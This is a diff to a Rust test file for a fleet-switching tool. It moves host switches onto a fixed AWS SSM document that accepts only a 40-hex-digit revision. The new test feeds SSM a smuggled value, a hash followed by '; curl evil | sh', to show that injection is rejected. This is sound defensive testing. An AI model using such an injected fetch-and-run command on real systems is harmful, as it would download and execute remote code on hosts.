@@ -419,16 +419,17 @@ fn switch(env: &Env, args: &[&str]) -> std::process::Output {
     run(env, &[&["--json", "fleet", "switch"], args, &["--instances", reg.to_str().unwrap()]].concat())
 }
 
-/// The SendCommand calls that went over the wire, in order: (instance ids, commands).
+/// The switches sent over the wire, in order: (instance ids, the revision
+/// parameter of the `clawdinator-switch` document).
 async fn commands_sent(env: &Env) -> Vec<(String, Vec<String>)> {
     let requests = env.emulator.recorded_requests().unwrap();
     requests
         .iter()
         .filter_map(|r| serde_json::from_str::<Value>(r["body"].as_str()?).ok())
-        .filter(|b| b["DocumentName"] == "AWS-RunShellScript")
+        .filter(|b| b["DocumentName"] == "clawdinator-switch")
         .map(|b| {
             let ids: Vec<&str> = b["InstanceIds"].as_array().unwrap().iter().map(|i| i.as_str().unwrap()).collect();
-            let commands = b["Parameters"]["commands"]
+            let commands = b["Parameters"]["revision"]
                 .as_array()
                 .unwrap()
                 .iter()
@@ -473,7 +474,7 @@ async fn switch_runs_the_host_command_canary_first_and_tags_each_host() {
     let sent = commands_sent(&env).await;
     assert_eq!(sent.len(), 3);
     assert_eq!(sent[0].0, ids[0], "the canary went first");
-    assert_eq!(sent[0].1, [format!("/run/current-system/sw/bin/clawdinator host switch {REV} --json")]);
+    assert_eq!(sent[0].1, [REV]);
     for id in &ids {
         assert_eq!(revision_tag(&env, id).await.as_deref(), Some(REV));
     }
@@ -530,4 +531,43 @@ async fn a_host_with_zero_or_two_instances_stops_the_switch_before_anything_runs
     let bad = switch(&env, &["main"]);
     assert_eq!(bad.status.code(), Some(1));
     assert!(String::from_utf8_lossy(&bad.stderr).contains("not a full git revision"));
+}
+
+/// CI reaches a host only through the fleet's SSM documents: the switch's
+/// runs one fixed command, and SSM itself refuses a revision that is not
+/// 40 hex digits, so shell text never reaches the host.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_switch_document_takes_only_a_revision() {
+    let env = env().await;
+    let document = std::fs::read_to_string(testkit::repo_root().join("infra/opentofu/aws/ssm/switch.json")).unwrap();
+    let document: Value = serde_json::from_str(&document).unwrap();
+    assert_eq!(document["parameters"]["revision"]["allowedPattern"], "^[0-9a-f]{40}$");
+    let steps = document["mainSteps"].as_array().unwrap();
+    assert_eq!(steps.len(), 1);
+    assert_eq!(
+        steps[0]["inputs"]["runCommand"],
+        json!(["/run/current-system/sw/bin/clawdinator host switch {{ revision }} --json"])
+    );
+    let ami = fleet_ami(&env, "fleet-1").await;
+    let id = instance(&env, "clawdinator-1", &ami, "t3.large", None).await;
+    for (revision, accepted) in
+        [(REV, true), ("0123456789abcdef0123456789abcdef01234567; curl evil | sh", false), ("main", false)]
+    {
+        let sent = env
+            .aws
+            .ssm()
+            .send_command()
+            .document_name("clawdinator-switch")
+            .instance_ids(&id)
+            .parameters("revision", vec![revision.to_string()])
+            .send()
+            .await;
+        match sent {
+            Ok(_) => assert!(accepted, "SSM ran the switch with {revision:?}"),
+            Err(e) => {
+                assert!(!accepted, "{revision}: {e:?}");
+                assert!(format!("{e:?}").contains("InvalidParameters"), "{e:?}");
+            }
+        }
+    }
 }
